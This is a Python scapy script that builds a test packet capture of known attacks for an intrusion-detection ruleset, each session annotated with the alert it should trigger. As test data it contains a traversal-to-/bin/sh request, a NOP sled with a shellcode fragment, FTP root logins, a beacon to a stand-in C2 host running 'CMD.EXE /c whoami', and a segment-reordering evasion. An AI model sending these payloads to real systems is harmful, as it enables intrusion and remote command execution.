#!/usr/bin/python3
# summary: writes the attack capture of ids_analyze.sh (scapy): known attacks with known alerts.
#
# Usage: ids_mkpcap.py OUT.pcap
# Every session is a full TCP exchange (handshake, data, FIN) or a UDP/ICMP
# exchange between documentation addresses; the comments name the rule
# (tests/integration/ids_attacks.rules) each one must fire, and how often.
import sys
from scapy.all import Ether, IP, TCP, UDP, ICMP, Raw, DNS, DNSQR, wrpcap

HONEYPOT = "192.0.2.10"
ATTACKER = "203.0.113.66"
C2 = "198.51.100.99"
pkts = []
t = [1700000000.0]


def add(p):
    t[0] += 0.001
    f = Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02") / p
    f.time = t[0]
    pkts.append(f)


def tcp_session(cli, sport, srv, dport, client_data=(), server_data=()):
    """Handshake, the client's segments, the server's segments, FIN."""
    cs, ss = 1000, 5000
    add(IP(src=cli, dst=srv) / TCP(sport=sport, dport=dport, flags="S", seq=cs))
    add(IP(src=srv, dst=cli) / TCP(sport=dport, dport=sport, flags="SA", seq=ss, ack=cs + 1))
    cs += 1
    ss += 1
    add(IP(src=cli, dst=srv) / TCP(sport=sport, dport=dport, flags="A", seq=cs, ack=ss))
    for d in client_data:
        add(IP(src=cli, dst=srv) / TCP(sport=sport, dport=dport, flags="PA", seq=cs, ack=ss) / Raw(d))
        cs += len(d)
        add(IP(src=srv, dst=cli) / TCP(sport=dport, dport=sport, flags="A", seq=ss, ack=cs))
    for d in server_data:
        add(IP(src=srv, dst=cli) / TCP(sport=dport, dport=sport, flags="PA", seq=ss, ack=cs) / Raw(d))
        ss += len(d)
        add(IP(src=cli, dst=srv) / TCP(sport=sport, dport=dport, flags="A", seq=cs, ack=ss))
    add(IP(src=cli, dst=srv) / TCP(sport=sport, dport=dport, flags="FA", seq=cs, ack=ss))
    add(IP(src=srv, dst=cli) / TCP(sport=dport, dport=sport, flags="FA", seq=ss, ack=cs + 1))
    add(IP(src=cli, dst=srv) / TCP(sport=sport, dport=dport, flags="A", seq=cs + 1, ack=ss + 1))


# 1000001 x1: directory traversal to a shell in an HTTP request (to the honeypot)
tcp_session(ATTACKER, 40001, HONEYPOT, 80,
            [b"GET /cgi-bin/../../../../bin/sh?-c+id HTTP/1.0\r\nHost: hp\r\n\r\n"],
            [b"HTTP/1.0 200 OK\r\n\r\nuid=0(root) gid=0(root)\n"])
# 1000002 x1: the answer shows root (to_client, after the request)
# 1000003 x1: NOP sled (x86 0x90 x 32) towards a service
tcp_session(ATTACKER, 40002, HONEYPOT, 6000, [b"\x90" * 64 + b"\x31\xc0\x50\x68//sh"])
# 1000004 x3: FTP login as root (flowbits) answered with 230, three sessions;
# the fourth session is refused (530): no alert
for i in range(3):
    tcp_session(ATTACKER, 40010 + i, HONEYPOT, 21, [b"USER root\r\n", b"PASS toor\r\n"],
                [b"230 Login successful.\r\n"])
tcp_session(ATTACKER, 40020, HONEYPOT, 21, [b"USER joe\r\n"], [b"230 Login successful.\r\n"])
# 1000005: SSH brute force: 12 SYNs to port 22; detection_filter count 5 -> 7 alerts
for i in range(12):
    add(IP(src=ATTACKER, dst=HONEYPOT) / TCP(sport=41000 + i, dport=22, flags="S", seq=i))
# 1000006 x2: ICMP echo with the Windows ping payload (itype 8, content)
for i in range(2):
    add(IP(src=ATTACKER, dst=HONEYPOT) / ICMP(type=8, id=0x200, seq=i) / Raw(b"abcdefghijklmnopqrstuvwabcdefghi"))
    add(IP(src=HONEYPOT, dst=ATTACKER) / ICMP(type=0, id=0x200, seq=i) / Raw(b"abcdefghijklmnopqrstuvwabcdefghi"))
# 1000007 x1: the honeypot resolves a C2 name (DNS over UDP, outbound)
add(IP(src=HONEYPOT, dst=C2) / UDP(sport=53000, dport=53) / DNS(rd=1, qd=DNSQR(qname="evil-c2.example")))
# 1000008 x1: the honeypot downloads a bot and runs cmd.exe (pcre, nocase)
tcp_session(HONEYPOT, 40100, C2, 8080, [b"POST /gate.php HTTP/1.1\r\n\r\nrun=CMD.EXE /c whoami"])
# 1000009 x1: a length-prefixed binary protocol with an oversized field
# (byte_extract + byte_test): len 0x0400 > 1000
tcp_session(ATTACKER, 40200, HONEYPOT, 9999, [b"BIN\x01\x04\x00" + b"A" * 32])
tcp_session(ATTACKER, 40201, HONEYPOT, 9999, [b"BIN\x01\x00\x10" + b"A" * 16])
# 1000010 x1: IP reputation (no content): a packet from a listed address
add(IP(src="198.51.100.250", dst=HONEYPOT) / UDP(sport=1234, dport=5000) / Raw(b"hi"))
# 1000011 x0: pass rule for the admin host silences 1000001 from it
tcp_session("192.0.2.200", 40300, HONEYPOT, 80, [b"GET /bin/sh HTTP/1.0\r\n\r\n"])
# 1000012 x2 but threshold limit 1 per source -> 1: decoy evasion,
# "attack not attack now" twice from one source
tcp_session(ATTACKER, 40400, HONEYPOT, 7000, [b"attack not attack now"])
tcp_session(ATTACKER, 40401, HONEYPOT, 7000, [b"attack not attack now"])

# 1000001 once more: the same request split across three segments, sent
# out of order; only the reassembled stream shows "/bin/sh"
cs, ss = 7000, 9000
cli, srv, sp = ATTACKER, HONEYPOT, 40500
add(IP(src=cli, dst=srv) / TCP(sport=sp, dport=80, flags="S", seq=cs))
add(IP(src=srv, dst=cli) / TCP(sport=80, dport=sp, flags="SA", seq=ss, ack=cs + 1))
add(IP(src=cli, dst=srv) / TCP(sport=sp, dport=80, flags="A", seq=cs + 1, ack=ss + 1))
parts = [b"GET /cgi-bin/../../b", b"in/s", b"h HTTP/1.0\r\n\r\n"]
offs = [cs + 1, cs + 1 + len(parts[0]), cs + 1 + len(parts[0]) + len(parts[1])]
for k in (0, 2, 1):
    add(IP(src=cli, dst=srv) / TCP(sport=sp, dport=80, flags="PA", seq=offs[k], ack=ss + 1) / Raw(parts[k]))
end = offs[2] + len(parts[2])
add(IP(src=srv, dst=cli) / TCP(sport=80, dport=sp, flags="A", seq=ss + 1, ack=end))
add(IP(src=cli, dst=srv) / TCP(sport=sp, dport=80, flags="FA", seq=end, ack=ss + 1))
add(IP(src=srv, dst=cli) / TCP(sport=80, dport=sp, flags="FA", seq=ss + 1, ack=end + 1))

wrpcap(sys.argv[1], pkts)
